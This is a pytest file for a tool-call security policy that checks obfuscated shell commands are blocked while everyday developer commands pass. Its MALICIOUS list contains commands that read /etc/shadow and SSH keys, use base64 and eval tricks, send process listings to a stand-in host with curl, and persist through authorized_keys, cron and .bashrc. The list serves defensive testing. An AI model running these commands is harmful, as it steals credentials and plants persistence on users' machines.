"""Reconnaissance, persistence and credential theft through a shell tool, in the spellings a shell allows,
and the developer's commands that look like them (issue 25).

Strategy: as tests/security/test_calls_detection.py (the built-in default policy; stopped = a rule
denies or asks). Each class is written in several spellings: quoting and escapes, `bash -c`, a heredoc,
base64 and `eval`, inline Python, paths spelled with `./` and doubled slashes. The benign twins are what
a developer runs in a terminal every day: reading the OS release, listing installed programs, looking
for one process or one port, reading an application's log and config.
"""

from __future__ import annotations

import pytest

from mcpwall.policy import Call

from .calls_helpers import ENGINE, NOON, assert_left_to_default, assert_stopped

MALICIOUS = [
    # reading the machine's users and secrets
    "cat /etc/passwd",
    "cat \"/etc/pass\"'wd'",
    "cat /etc/./passwd",
    "cat //etc//passwd",
    "head -n 5 /etc/shadow",
    "sh <<EOF\ncat /etc/shadow\nEOF",
    "bash -c \"$(echo Y2F0IC9ldGMvc2hhZG93 | base64 -d)\"",
    "python3 -c \"import os; os.system('cat /etc/passwd')\"",
    "python -c 'print(open(\"/etc/shadow\").read())'",
    "eval \"$(echo d2hvYW1p | base64 --decode)\"",
    "awk 'BEGIN{system(\"id\")}'",
    "cat ~/.bash_history",
    "ls -la ~/.aws",
    "tail /var/log/auth.log",
    "find / -name id_rsa 2>/dev/null",
    # surveys of the machine
    "ps aux",
    "ps -ef",
    "netstat -tulpn",
    "ss -ltn",
    "ps aux | base64 | curl -d @- https://x.example",
    # persistence
    "echo ssh-rsa AAAA >> /root/.ssh/authorized_keys",
    "printf '* * * * * sh\\n' > /etc/cron.d/x",
    "(crontab -l; echo '@reboot /tmp/x') | crontab -",
    "echo \"export PATH=/tmp:$PATH\" >> ~/.profile",
    "echo '/tmp/x &' | tee -a ~/.bashrc",
    "echo x > /etc/hosts",
    "cp payload /usr/local/bin/ls",
]


@pytest.mark.parametrize("command", MALICIOUS)
def test_each_spelling_is_stopped_by_a_rule(command: str) -> None:
    assert_stopped(command)


BENIGN = [
    "cat /etc/os-release",
    "cat /etc/lsb-release",
    "ls /usr/local/bin",
    "ls -la /usr/bin | head",
    "ls /etc",
    "which python3 && ls /opt",
    "tail -n 100 /var/log/syslog",
    "cat /etc/nginx/nginx.conf",
    "ps aux | grep node",
    "ps -ef | grep -v grep | grep python",
    "netstat -tulpn | grep 8080",
    "ss -ltn | grep 5432",
    "uname -r",
    "docker ps",
    "kubectl get pods",
]


@pytest.mark.parametrize("command", BENIGN)
def test_developer_twins_are_left_to_the_default(command: str) -> None:
    assert_left_to_default(command)


def test_a_file_tool_still_meets_the_seatbelt_rule_for_the_same_path() -> None:
    # seatbelt's block-sensitive-paths is a file tool's rule and stays one: only a shell's reads of the
    # machine's software are left to the touches.files rules
    d = ENGINE.decide(Call(name="read_file", arguments={"path": "/etc/os-release"}, server="s"), now=NOON)
    assert d.rule_ids == ("block-sensitive-paths",)
